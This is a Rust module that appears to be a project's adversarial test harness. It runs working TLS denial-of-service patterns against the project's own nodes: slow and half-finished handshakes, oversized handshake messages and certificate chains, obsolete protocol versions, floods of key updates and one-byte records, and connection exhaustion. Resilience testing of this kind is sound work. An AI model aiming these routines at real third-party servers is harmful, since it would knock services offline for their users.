//! Handshakes of TLS: slow, half, many, old, large, with wrong names and certificates; and records that cost more than
//! they bring.

use std::{
    env, fs, io,
    net::SocketAddr,
    sync::{Arc, OnceLock},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::sleep,
};
use tokio_rustls::{
    TlsConnector,
    client::TlsStream,
    rustls::{ClientConfig, ClientConnection, client::Resumption, pki_types::ServerName},
};

use crate::{
    attacker::{Attacker, drained, hold, repeat, to_the_end},
    certificates::{Authority, Paper, client_config},
    frames::{self, END_STREAM},
};

/// Where the attacker finds the CA of the nodes.
pub const AUTHORITY: &str = "PRIMACY_ATTACKED_CA";
/// The time between two bytes of a slow writer.
const SLOW: Duration = Duration::from_millis(50);
/// Records that are written at once.
const RECORDS: usize = 64;

fn authorities() -> String {
    fs::read_to_string(env::var(AUTHORITY).unwrap()).unwrap()
}

/// A client that resumes no session, and shows this.
fn config(shows: Option<&Paper>) -> Arc<ClientConfig> {
    let mut config = client_config(&authorities(), shows);
    config.resumption = Resumption::disabled();
    Arc::new(config)
}

fn plain_config() -> Arc<ClientConfig> {
    static CONFIG: OnceLock<Arc<ClientConfig>> = OnceLock::new();
    Arc::clone(CONFIG.get_or_init(|| config(None)))
}

fn name(of: SocketAddr) -> ServerName<'static> {
    ServerName::IpAddress(of.ip().into())
}

/// What begins a handshake.
fn hello(name: ServerName<'static>) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut connection = ClientConnection::new(plain_config(), name).unwrap();
    connection.write_tls(&mut bytes).unwrap();
    bytes
}

async fn agreed(config: Arc<ClientConfig>, stream: TcpStream) -> io::Result<TlsStream<TcpStream>> {
    let name = name(stream.peer_addr()?);
    TlsConnector::from(config).connect(name, stream).await
}

fn both(attacker: &Attacker) -> [SocketAddr; 2] {
    [attacker.http, attacker.grpc]
}

/// First messages that come a byte at a time.
pub fn slow(attacker: &mut Attacker) {
    for to in both(attacker) {
        attacker.connections(250, to, |stream| async move {
            let bytes = hello(name(stream.peer_addr()?));
            drained(stream, |mut writer| async move {
                for byte in bytes {
                    writer.write_all(&[byte]).await?;
                    sleep(SLOW).await;
                }
                Ok(())
            })
            .await
        });
    }
}

/// Handshakes that the client begins, which costs the node a signature, and does not end.
pub fn half(attacker: &mut Attacker) {
    attacker.spread(16);
    for to in both(attacker) {
        attacker.connections(2048, to, |mut stream| async move {
            let bytes = hello(name(stream.peer_addr()?));
            stream.write_all(&bytes).await?;
            to_the_end(stream).await
        });
    }
}

/// Handshakes that stop just before they are too long.
pub fn parked(attacker: &mut Attacker) {
    attacker.spread(16);
    for to in both(attacker) {
        attacker.connections(2048, to, |mut stream| async move {
            // A part of a message of 60,000 bytes, in a record of 15 KiB.
            let part = [&[22, 3, 3, 60, 0][..], &[1, 0, 234, 96], &[0; 15 * 1024 - 4]].concat();
            stream.write_all(&part).await?;
            to_the_end(stream).await
        });
    }
}

/// Whole handshakes, one after the other, for nothing.
pub fn flood(attacker: &mut Attacker) {
    for to in both(attacker) {
        attacker.connections(32, to, |stream| async { agreed(plain_config(), stream).await.map(drop) });
    }
}

/// First messages of versions that are spoken no more, and others that are none.
pub fn old(attacker: &mut Attacker) {
    for to in both(attacker) {
        // A record of SSL 3.0 and one of TLS 1.0, each with a first message of that version: no suite, no extension.
        for version in [[3, 0], [3, 1]] {
            attacker.connections(16, to, move |mut stream| async move {
                let message = [&[1, 0, 0, 41][..], &version, &[7; 32], &[0, 0, 2, 0, 47, 1, 0]].concat();
                let record = [&[22][..], &version, &[0, message.len() as u8], &message].concat();
                stream.write_all(&record).await?;
                to_the_end(stream).await
            });
        }
        attacker.connections(16, to, |mut stream| async move {
            stream.write_all(&[22; 4096]).await?;
            to_the_end(stream).await
        });
    }
}

/// First messages without an end, and certificates with far too many of others behind them.
pub fn large(attacker: &mut Attacker) {
    for to in both(attacker) {
        attacker.connections(64, to, |stream| {
            drained(stream, |mut writer| async move {
                // A message of 16 MiB less one, in records of 16 KiB.
                let head = [22, 3, 3, 64, 0];
                let first = [&head[..], &[1, 255, 255, 255], &[0; 16 * 1024 - 4]].concat();
                writer.write_all(&first).await?;
                repeat(&mut writer, &[&head[..], &[0; 16 * 1024]].concat()).await
            })
        });
    }
    attacker.connections(32, attacker.grpc, |stream| async {
        static CONFIG: OnceLock<Arc<ClientConfig>> = OnceLock::new();
        let shown = Arc::clone(CONFIG.get_or_init(|| {
            let elsewhere = Authority::new("elsewhere");
            let mut paper = elsewhere.issue();
            paper.certificate += &elsewhere.pem.repeat(60);
            config(Some(&paper))
        }));
        read_on(agreed(shown, stream).await?).await
    });
}

/// Names that the node does not have.
pub fn names(attacker: &mut Attacker) {
    for to in both(attacker) {
        attacker.connections(32, to, |mut stream| async move {
            let wrong = ServerName::try_from(format!("{}.example", "x".repeat(63))).unwrap();
            stream.write_all(&hello(wrong)).await?;
            to_the_end(stream).await
        });
    }
}

/// Certificates that have expired, and of a CA that the node does not believe.
pub fn certificates(attacker: &mut Attacker) {
    attacker.connections(32, attacker.grpc, |stream| async {
        static CONFIG: OnceLock<Arc<ClientConfig>> = OnceLock::new();
        let shown = CONFIG.get_or_init(|| config(Some(&Authority::new("elsewhere").issue_expired())));
        read_on(agreed(Arc::clone(shown), stream).await?).await
    });
    attacker.connections(32, attacker.grpc, |stream| async {
        static CONFIG: OnceLock<Arc<ClientConfig>> = OnceLock::new();
        let shown = CONFIG.get_or_init(|| config(Some(&Authority::new("elsewhere").issue())));
        read_on(agreed(Arc::clone(shown), stream).await?).await
    });
}

async fn read_on(mut stream: TlsStream<TcpStream>) -> io::Result<()> {
    while stream.read(&mut [0; 1024]).await? > 0 {}
    Ok(())
}

/// Records of one byte each, of a head that does not end.
pub fn records(attacker: &mut Attacker) {
    for to in both(attacker) {
        attacker.connections(20, to, |stream| async {
            let mut stream = agreed(plain_config(), stream).await?;
            stream.write_all(b"GET /livez HTTP/1.1\r\nx-slow: ").await?;
            loop {
                for _ in 0..RECORDS {
                    // The bytes of a record leave when it is whole.
                    io::Write::write_all(&mut stream.get_mut().1.writer(), b" ")?;
                }
                stream.flush().await?;
                tokio::task::yield_now().await;
            }
        });
    }
}

/// New keys again and again, each of which the node must make too.
pub fn keys(attacker: &mut Attacker) {
    for to in both(attacker) {
        attacker.connections(20, to, |stream| async {
            let mut stream = agreed(plain_config(), stream).await?;
            loop {
                for _ in 0..RECORDS {
                    stream.get_mut().1.refresh_traffic_keys().map_err(io::Error::other)?;
                }
                stream.flush().await?;
                tokio::task::yield_now().await;
            }
        });
    }
}

/// All places of both listeners, from many addresses, after one request each.
pub fn crowd(attacker: &mut Attacker) {
    attacker.spread(64);
    attacker.connections(4096, attacker.http, |stream| async {
        let mut stream = agreed(plain_config(), stream).await?;
        stream.write_all(b"GET /livez HTTP/1.1\r\nHost: node\r\n\r\n").await?;
        read_on(stream).await
    });
    attacker.connections(4096, attacker.grpc, |stream| async {
        let mut stream = agreed(plain_config(), stream).await?;
        let get = frames::request(1, END_STREAM, "GET", "/livez", &[]);
        stream.write_all(&[frames::opening(), get].concat()).await?;
        read_on(stream).await
    });
}

/// Answers that nobody reads.
pub fn unread(attacker: &mut Attacker) {
    attacker.spread(4);
    attacker.slow_connections(2000, attacker.http, Some(2048), |stream| async {
        let mut stream = agreed(plain_config(), stream).await?;
        stream.write_all(b"GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: node\r\n\r\n").await?;
        hold(stream).await
    });
}
